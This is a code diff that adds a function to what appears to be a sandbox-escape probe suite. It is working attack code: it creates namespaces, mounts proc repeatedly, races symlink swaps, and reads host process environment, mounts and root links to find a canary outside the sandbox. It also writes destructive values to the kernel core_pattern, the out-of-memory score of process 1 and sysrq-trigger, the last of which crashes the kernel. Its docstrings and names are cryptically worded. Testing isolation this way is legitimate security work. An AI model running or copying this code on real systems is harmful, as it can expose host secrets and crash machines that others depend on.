@@ -716,6 +716,56 @@ def settings_of_the_machine():
     return
 
 
+@attempt
+def proc_of_a_space_of_our_own():
+    """It is mounted by who stands further out than we: in a user namespace too, again and again, and where the name changes meanwhile."""
+
+    def looks(place):
+        """What is seen of the machine, and through whoever is called 1 there."""
+        found = is_outside(
+            b"".join(read(f"{place}/{name}") for name in ("version", "1/mountinfo", "1/environ", "mounts", "1/cgroup"))
+        )
+        for name in ("1/root", "1/cwd", "self/root", "self/cwd"):
+            found = found or is_outside(read(f"{place}/{name}{FACTS['canary_path']}"))
+        written(f"{place}/sys/kernel/core_pattern", b"|/bin/false")
+        written(f"{place}/1/oom_score_adj", b"-1000")
+        written(f"{place}/sysrq-trigger", b"c")
+        return found
+
+    def mounts():
+        for _ in range(30):
+            os.makedirs("/tmp/space", exist_ok=True)
+            if call(165, b"proc", b"/tmp/space", b"proc", 0, None) == 0 and (found := looks("/tmp/space")):
+                return found
+            call(166, b"/tmp/space", DETACH)
+        return None
+
+    def swaps():
+        while True:
+            with contextlib.suppress(OSError):
+                os.rename("/tmp/swap", "/tmp/swap2")
+                os.symlink(FACTS["canary_path"].rpartition("/")[0], "/tmp/swap")
+                os.unlink("/tmp/swap")
+                os.rename("/tmp/swap2", "/tmp/swap")
+
+    os.makedirs("/tmp/swap", exist_ok=True)
+    threading.Thread(target=swaps, daemon=True).start()
+    for flags in (NEW_PID | NEW_NS, NEW_USER | NEW_PID | NEW_NS):
+        if call(272, flags) != 0:
+            continue
+        reader, writer = os.pipe()
+        if os.fork() == 0:
+            signal.alarm(8)
+            os.write(writer, (mounts() or "").encode())
+            for _ in range(200):
+                call(165, b"proc", b"/tmp/swap", b"proc", 0, None)
+            os._exit(0)
+        os.close(writer)
+        if found := os.read(reader, 4096):
+            return found.decode()
+    return None
+
+
 # ---- the FUSE server
 
 
